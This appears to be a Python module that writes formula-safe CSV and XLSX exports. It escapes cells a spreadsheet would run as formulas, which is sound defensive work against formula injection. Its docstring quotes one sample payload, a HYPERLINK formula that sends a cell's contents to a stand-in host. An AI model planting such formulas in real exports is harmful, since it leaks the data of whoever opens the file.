"""The one writer of every file a spreadsheet may open (CSV and XLSX), formula-safe.

Text that a spreadsheet would run as a formula — a cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return, such as a citizen-chosen submission id
`=HYPERLINK("http://x/?"&A1,"x")` — gets an apostrophe in front, so it is shown
as text. A number written as text (`-1.25`, `+3`) is a number to a spreadsheet,
not a formula, and is written as it is, so the spec's number columns keep their
exact form. Every download, command and page of the product writes through here.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

FORMULA_STARTS = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")
BOM = "\ufeff"


def safe(value: object) -> object:
    """The cell as a spreadsheet should see it: formula-like text gets a leading apostrophe."""
    if (value.__class__ is str and value and value[0] in FORMULA_STARTS
            and not _NUMBER.match(value)):
        return "'" + value
    return value


class CsvWriter:
    """A csv.writer ("\\n" line ends) whose every cell passes `safe`."""

    def __init__(self, out):
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable) -> object:
        return self._writer.writerow([safe(v) for v in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


class _Line:
    """A file-like object that hands back what csv.writer writes (for streaming)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable], *, bom: bool = True
              ) -> Iterator[str]:
    """The CSV file line by line (for a streamed download or a large file).

    It starts with a byte-order mark, so that spreadsheet software reads it as UTF-8 and
    shows Vietnamese correctly; every reader of the product skips it.
    """
    writer = CsvWriter(_Line())
    first = writer.writerow(header)
    yield (BOM + first) if bom else first
    for row in rows:
        yield writer.writerow(row)


def csv_text(header: list[str], rows: Iterable[Iterable], *, bom: bool = True) -> str:
    """The whole CSV file as text."""
    return "".join(csv_lines(header, rows, bom=bom))


def xlsx_bytes(sheets: list[Sheet]) -> bytes:
    """A workbook of the given sheets: header in bold and frozen, numbers stored as numbers."""
    book = Workbook(write_only=True)
    for spec in sheets:
        sheet = book.create_sheet(title=spec.title[:31])
        sheet.freeze_panes = "A2"
        for i, width in enumerate(spec.widths()):
            sheet.column_dimensions[_column_letter(i)].width = width
        header = []
        for name in spec.header:
            cell = WriteOnlyCell(sheet, value=safe(name))
            cell.font = Font(bold=True)
            header.append(cell)
        sheet.append(header)
        for row in spec.rows:
            sheet.append([spec.cell(sheet, name, value)
                          for name, value in zip(spec.header, row, strict=True)])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


class Sheet:
    """One sheet: a title, a header, rows; `decimals` columns hold numbers with 2 decimals,
    `integers` whole numbers, `floats` numbers as given; every other cell is text."""

    def __init__(self, title: str, header: list[str], rows: list[list], *,
                 decimals: Iterable[str] = (), integers: Iterable[str] = (),
                 floats: Iterable[str] = ()):
        self.title, self.header, self.rows = title, list(header), rows
        self.decimals, self.integers, self.floats = set(decimals), set(integers), set(floats)

    def cell(self, sheet, name: str, value: object) -> object:
        if value is None or value == "":
            return None
        if name in self.decimals:
            cell = WriteOnlyCell(sheet, value=Decimal(str(value)))
            cell.number_format = "0.00"
            return cell
        if name in self.integers:
            return int(value)
        if name in self.floats:
            return float(value)
        return safe(value if isinstance(value, str) else str(value))

    def widths(self) -> list[float]:
        """Column widths that fit the header and the first rows' text."""
        sample = self.rows[:200]
        return [min(60.0, 2.0 + max([len(str(name))] + [len(str(r[i])) for r in sample
                                                         if i < len(r) and r[i] is not None]))
                for i, name in enumerate(self.header)]


def _column_letter(i: int) -> str:
    letters = ""
    i += 1
    while i:
        i, rest = divmod(i - 1, 26)
        letters = chr(65 + rest) + letters
    return letters
